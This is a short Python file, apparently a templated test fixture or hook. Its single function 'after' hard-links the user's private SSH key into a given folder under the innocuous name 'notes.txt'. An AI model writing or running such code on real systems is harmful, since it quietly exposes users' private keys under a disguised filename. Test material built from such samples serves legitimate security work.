import os


def after(folder):
    os.link("{{HOME}}/.ssh/id_ed25519", folder / "notes.txt")
